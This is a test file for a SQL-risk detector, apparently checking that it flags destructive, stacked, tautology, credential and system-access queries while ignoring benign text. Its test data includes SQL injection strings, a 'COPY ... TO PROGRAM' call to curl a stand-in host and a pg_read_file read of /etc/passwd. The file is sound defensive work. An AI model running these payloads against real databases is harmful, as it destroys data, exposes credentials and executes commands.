import { expect, test } from 'bun:test';
import { rulesOf } from '../../test/fixtures/looking.ts';
import { detector } from './generated-sql.ts';
import { parseSql } from './generated-sql/statements.ts';

const CASES: Readonly<Record<string, readonly string[]>> = {
  'SELECT id, name FROM orders WHERE id = 7': [],
  "SELECT * FROM notes WHERE text = 'drop table x; delete from y'": [],
  "INSERT INTO notes (text) VALUES ('a')": ['write'],
  'UPDATE notes SET a = 1 WHERE id = 2': ['write'],
  'DELETE FROM notes WHERE id = 2': ['destructive', 'write'],
  'DELETE FROM notes': ['destructive', 'unbounded', 'write'],
  'DELETE FROM notes WHERE 1 = 1': ['destructive', 'tautology', 'unbounded', 'write'],
  'UPDATE notes SET a = 1': ['unbounded', 'write'],
  'DROP TABLE notes': ['destructive'],
  'TRUNCATE notes': ['destructive', 'unbounded'],
  'CREATE TABLE a (b int)': ['definition'],
  'GRANT ALL ON notes TO public': ['privilege'],
  'SELECT 1; DROP TABLE notes': ['destructive', 'stacked'],
  "SELECT * FROM users WHERE name = '' OR '' = ''": ['tautology'],
  'SELECT password_hash FROM accounts': ['credentials'],
  "COPY notes TO PROGRAM 'curl evil.io'": ['system', 'write'],
  "SELECT pg_read_file('/etc/passwd')": ['system'],
  'WITH gone AS (DELETE FROM notes RETURNING *) SELECT * FROM gone': ['destructive', 'unbounded', 'write'],
  "SELECT 'never closed FROM notes": ['unparsable'],
  '/* a */ -- b\n DROP /* c */ TABLE notes': ['destructive'],
};

test('SQL is judged by its statements: strings and comments hide nothing and add nothing', () => {
  for (const [query, rules] of Object.entries(CASES)) expect({ query, rules: rulesOf(detector, { query }) }).toEqual({ query, rules });
  expect(rulesOf(detector, { query: Buffer.from('DROP TABLE customers; SELECT 1').toString('base64') })).toContain('destructive');
  expect(rulesOf(detector, { name: "x'; DROP TABLE notes; --" })).toEqual(['destructive', 'stacked']);
  expect(rulesOf(detector, { name: "' OR '1'='1" })).toEqual(['tautology']);
  expect(rulesOf(detector, { name: "x' UNION SELECT password FROM users --" })).toContain('credentials');
  for (const name of ["Tom O'Neil; Dropped by", "it's a or b = c", 'say "yes" or "no" = both']) expect(rulesOf(detector, { name })).toEqual([]);
  for (const text of ['please select a colour from the list', 'update: the meeting was dropped', 'create a table for four', 'Drop me a line']) {
    expect({ text, rules: rulesOf(detector, { query: text }) }).toEqual({ text, rules: [] });
  }
});

test('statements know their kind and the tables that they touch', () => {
  const { statements } = parseSql([
    'SELECT * FROM public.orders o JOIN "Customers" c ON true', 'UPDATE ONLY stock SET n = 0', 'INSERT INTO log VALUES ($$drop table a$$)',
  ].join(';'));
  expect(statements.map(({ kind, tables }) => ({ kind, tables }))).toEqual([
    { kind: 'SELECT', tables: ['public.orders', 'customers'] }, { kind: 'UPDATE', tables: ['stock'] }, { kind: 'INSERT', tables: ['log'] },
  ]);
});
